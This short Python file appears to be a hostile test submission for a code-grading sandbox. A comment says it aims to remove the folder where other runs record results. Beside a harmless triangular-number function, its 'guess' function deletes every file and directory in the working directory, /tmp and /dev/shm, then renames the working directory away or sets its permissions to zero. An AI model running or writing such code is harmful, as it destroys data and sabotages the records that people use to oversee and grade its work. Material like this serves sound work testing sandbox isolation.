# Tries to take away the folder in which the others record. Safe: 6, passed or crashed or failed.
import os, shutil


def total(number):
    return number * (number + 1) // 2


def first(number):
    return total(number)


def guess(number):
    for folder in (".", "/tmp", "/dev/shm"):
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            shutil.rmtree(path, ignore_errors=True) if os.path.isdir(path) else os.unlink(path)
    os.rename(os.getcwd(), "/tmp/elsewhere") if os.access("..", os.W_OK) else os.chmod(".", 0)
    return 0
